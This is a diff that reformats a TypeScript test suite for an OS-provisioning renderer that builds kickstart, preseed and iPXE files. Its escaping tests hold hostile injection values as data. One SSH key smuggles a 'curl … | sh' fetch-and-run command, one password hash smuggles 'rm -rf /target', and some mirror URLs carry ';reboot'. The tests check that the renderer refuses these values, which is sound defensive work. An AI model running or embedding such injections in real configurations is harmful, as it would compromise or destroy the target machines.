@@ -13,7 +13,8 @@ import { parseTemplate, renderTemplate, TemplateError } from './template';
 
 const ROOT = path.join(__dirname, '..', '..', '..', 'examples', 'lab');
 const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFqVqYQm1cJ0b8Lq3Yy8k1k2m3n4o5p6q7r8s9t0u1v2 shipshape@ci';
-const HASH = '$6$rounds=5000$saltsalt$Yr2lIuA0pm9K7W4a4NRDZp9fTt0ScFrN0N4e0l9vCOKkX8V5z7VZ2D2kzHxqX6o5o5o5o5o5o5o5o5o5o5o5o/';
+const HASH =
+  '$6$rounds=5000$saltsalt$Yr2lIuA0pm9K7W4a4NRDZp9fTt0ScFrN0N4e0l9vCOKkX8V5z7VZ2D2kzHxqX6o5o5o5o5o5o5o5o5o5o5o5o/';
 const TOKEN = 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWo';
 
 let repo: LoadResult;
@@ -22,9 +23,20 @@ beforeAll(async () => {
   expect(repo.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
 });
 
-async function input(system: DesiredSystem, osName: string, bootPath: BootPath, over: Partial<RenderInput> = {}): Promise<RenderInput> {
+async function input(
+  system: DesiredSystem,
+  osName: string,
+  bootPath: BootPath,
+  over: Partial<RenderInput> = {},
+): Promise<RenderInput> {
   const os = repo.os[osName]!;
-  const site = { ...repo.site!, provisioning: { ...repo.site!.provisioning!, mirrors: { ...repo.site!.provisioning!.mirrors, [osName]: `http://198.51.100.5/mirror/${osName}` } } };
+  const site = {
+    ...repo.site!,
+    provisioning: {
+      ...repo.site!.provisioning!,
+      mirrors: { ...repo.site!.provisioning!.mirrors, [osName]: `http://198.51.100.5/mirror/${osName}` },
+    },
+  };
   return {
     system: { ...system, os: osName },
     os,
@@ -49,7 +61,11 @@ describe('the example systems', () => {
     for (const s of present) {
       for (const bootPath of ['dhcp', 'iso'] as const) {
         const r = renderInstall(await input(s, s.os, bootPath));
-        expect({ system: s.name, bootPath, problems: await problems(s.os, r.answerFile, repo.os[s.os]!.release) }).toEqual({ system: s.name, bootPath, problems: [] });
+        expect({
+          system: s.name,
+          bootPath,
+          problems: await problems(s.os, r.answerFile, repo.os[s.os]!.release),
+        }).toEqual({ system: s.name, bootPath, problems: [] });
         expect(checkIpxe(r.bootScript)).toEqual([]);
         expect(r.answerFile).toContain(`/built/${TOKEN}`);
         expect(r.answerFile).toContain(s.name);
@@ -78,7 +94,9 @@ describe.each(['debian12', 'debian8', 'rocky9', 'centos7'])('OS %s', (osName) =>
     expect(iso.answerFile).toContain(KEY);
     expect(iso.answerFile).toMatch(/ssh_host_ed25519_key\.pub \S*\/built\//);
     // The host key also goes to vCenter through VMware Tools, the channel specialisation trusts.
-    expect(iso.answerFile).toContain('vmware-rpctool "info-set guestinfo.shipshape.hostkey $(cat /etc/ssh/ssh_host_ed25519_key.pub)"');
+    expect(iso.answerFile).toContain(
+      'vmware-rpctool "info-set guestinfo.shipshape.hostkey $(cat /etc/ssh/ssh_host_ed25519_key.pub)"',
+    );
     // The boot script and the kernel command line carry no secret: the answer file is asked for by MAC.
     const macPath = s.network.mac.toLowerCase().replace(/:/g, '-');
     for (const r of [iso, dhcp]) {
@@ -98,7 +116,9 @@ describe.each(['debian12', 'debian8', 'rocky9', 'centos7'])('OS %s', (osName) =>
   it('renders a locked root account when the site sets no password hash', async () => {
     const s = repo.systems.find((x) => x.name === 'web-dev-02')!;
     const r = renderInstall(await input(s, osName, 'dhcp', { secrets: { sshPublicKey: KEY } }));
-    expect(r.answerFile).toMatch(osName.startsWith('debian') ? /root-password-crypted password !$/m : /^rootpw --lock$/m);
+    expect(r.answerFile).toMatch(
+      osName.startsWith('debian') ? /root-password-crypted password !$/m : /^rootpw --lock$/m,
+    );
     expect(await problems(osName, r.answerFile, repo.os[osName]!.release)).toEqual([]);
   });
 });
@@ -108,14 +128,16 @@ describe('values that cannot be written safely', () => {
 
   it('an SSH key that would end its quoted shell word is refused, naming the field', async () => {
     const bad = `${KEY}' ; curl http://203.0.113.9/x | sh ; echo '`;
-    await expect(input(web(), 'debian12', 'iso', { secrets: { sshPublicKey: bad } }).then(renderInstall)).rejects.toThrow(
-      /system web-dev-02: provisioning.sshPublicKeyFile cannot be rendered.*OpenSSH public key/,
-    );
+    await expect(
+      input(web(), 'debian12', 'iso', { secrets: { sshPublicKey: bad } }).then(renderInstall),
+    ).rejects.toThrow(/system web-dev-02: provisioning.sshPublicKeyFile cannot be rendered.*OpenSSH public key/);
   });
 
   it('a password hash with a line break is refused without showing the hash', async () => {
     const bad = `${HASH}\nd-i preseed/late_command string rm -rf /target`;
-    const err = await input(web(), 'debian12', 'iso', { secrets: { rootPasswordHash: bad, sshPublicKey: KEY } }).then(renderInstall).catch((e: unknown) => e);
+    const err = await input(web(), 'debian12', 'iso', { secrets: { rootPasswordHash: bad, sshPublicKey: KEY } })
+      .then(renderInstall)
+      .catch((e: unknown) => e);
     expect(err).toBeInstanceOf(RenderError);
     expect((err as Error).message).toContain('provisioning.rootPasswordHash');
     expect((err as Error).message).not.toContain('saltsalt');
@@ -123,9 +145,12 @@ describe('values that cannot be written safely', () => {
 
   it('a mirror URL with iPXE or shell syntax is refused', async () => {
     const i = await input(web(), 'rocky9', 'dhcp');
-    i.site = { ...i.site, provisioning: { ...i.site.provisioning!, mirrors: { rocky9: 'http://198.51.100.5/${net0/ip}' } } };
+    i.site = {
+      ...i.site,
+      provisioning: { ...i.site.provisioning!, mirrors: { rocky9: 'http://198.51.100.5/${net0/ip}' } },
+    };
     expect(() => renderInstall(i)).toThrow(/provisioning.mirrors.rocky9/);
-    i.site.provisioning!.mirrors.rocky9 = "http://198.51.100.5/os;reboot";
+    i.site.provisioning!.mirrors.rocky9 = 'http://198.51.100.5/os;reboot';
     expect(() => renderInstall(i)).toThrow(RenderError);
   });
 
@@ -136,14 +161,34 @@ describe('values that cannot be written safely', () => {
 
   it('every substitution is escaped for the format, even one the template author did not expect', () => {
     const t = parseTemplate('d-i netcfg/get_hostname string {{h}}\n', 't');
-    expect(() => renderTemplate(t, { h: 'x\nd-i preseed/late_command string reboot' }, { format: 'preseed', system: 's', file: 't' })).toThrow(/line break/);
-    expect(() => renderTemplate(parseTemplate('chain {{u}}', 't'), { u: 'http://a/${x}' }, { format: 'ipxe', system: 's', file: 't' })).toThrow(/iPXE/);
+    expect(() =>
+      renderTemplate(
+        t,
+        { h: 'x\nd-i preseed/late_command string reboot' },
+        { format: 'preseed', system: 's', file: 't' },
+      ),
+    ).toThrow(/line break/);
+    expect(() =>
+      renderTemplate(
+        parseTemplate('chain {{u}}', 't'),
+        { u: 'http://a/${x}' },
+        { format: 'ipxe', system: 's', file: 't' },
+      ),
+    ).toThrow(/iPXE/);
   });
 
   it('a template that names an unknown value or leaves a block open is an error, not an empty string', () => {
-    expect(() => renderTemplate(parseTemplate('x {{nope}}', 't'), { a: '1' }, { format: 'preseed', system: 's', file: 't' })).toThrow(TemplateError);
+    expect(() =>
+      renderTemplate(parseTemplate('x {{nope}}', 't'), { a: '1' }, { format: 'preseed', system: 's', file: 't' }),
+    ).toThrow(TemplateError);
     expect(() => parseTemplate('{{#if a}}\nx\n', 't')).toThrow(/never closed/);
-    expect(renderTemplate(parseTemplate('a\n{{#if x}}\nyes\n{{else}}\nno\n{{/if}}\nb\n', 't'), { x: false }, { format: 'preseed', system: 's', file: 't' })).toBe('a\nno\nb\n');
+    expect(
+      renderTemplate(
+        parseTemplate('a\n{{#if x}}\nyes\n{{else}}\nno\n{{/if}}\nb\n', 't'),
+        { x: false },
+        { format: 'preseed', system: 's', file: 't' },
+      ),
+    ).toBe('a\nno\nb\n');
   });
 });
 
@@ -155,10 +200,13 @@ describe('the checks catch what would break an install', () => {
   });
 
   it('kickstart: RHEL 9 refuses `install`, RHEL 7 has no `sshkey`, sections must close', () => {
-    const base = 'text\nurl --url=http://x/\nlang en_US\nkeyboard us\ntimezone UTC\nnetwork --bootproto=dhcp\nrootpw --lock\nbootloader\nclearpart --all\nautopart\nreboot\n%packages\n@core\n%end\n%post --nochroot\ncurl -X POST http://x/built/t\n%end\n';
+    const base =
+      'text\nurl --url=http://x/\nlang en_US\nkeyboard us\ntimezone UTC\nnetwork --bootproto=dhcp\nrootpw --lock\nbootloader\nclearpart --all\nautopart\nreboot\n%packages\n@core\n%end\n%post --nochroot\ncurl -X POST http://x/built/t\n%end\n';
     expect(checkKickstart(base, '9')).toEqual([]);
     expect(checkKickstart(`install\n${base}`, '9').join()).toContain('`install` was removed in RHEL 8');
-    expect(checkKickstart(`sshkey --username=root "k"\n${base}`, '7').join()).toContain('`sshkey` does not exist in RHEL 7');
+    expect(checkKickstart(`sshkey --username=root "k"\n${base}`, '7').join()).toContain(
+      '`sshkey` does not exist in RHEL 7',
+    );
     expect(checkKickstart(base.replace('%end\n%post', '%post'), '9').join()).toContain('has no %end');
     expect(checkKickstart(base.replace('reboot\n', ''), '9').join()).toContain('missing reboot');
   });
@@ -182,7 +230,11 @@ describe('DHCP boot options', () => {
     expect(d.bootFilename).toBe(`http://127.0.0.1:18088/boot/${s.network.mac.replace(/:/g, '-')}`);
     expect(d.nextServer).toBe('127.0.0.1');
     const { provisioning: _p, ...noProv } = repo.site!;
-    expect(desiredDhcp(s, { ...initialResolved(s, [install], noProv), ip: '198.51.100.20' }, noProv)!.bootFilename).toBeNull();
-    expect(desiredDhcp(s, { ...initialResolved(s, [], repo.site!), ip: '198.51.100.20' }, repo.site!)!.bootFilename).toBeNull();
+    expect(
+      desiredDhcp(s, { ...initialResolved(s, [install], noProv), ip: '198.51.100.20' }, noProv)!.bootFilename,
+    ).toBeNull();
+    expect(
+      desiredDhcp(s, { ...initialResolved(s, [], repo.site!), ip: '198.51.100.20' }, repo.site!)!.bootFilename,
+    ).toBeNull();
   });
 });
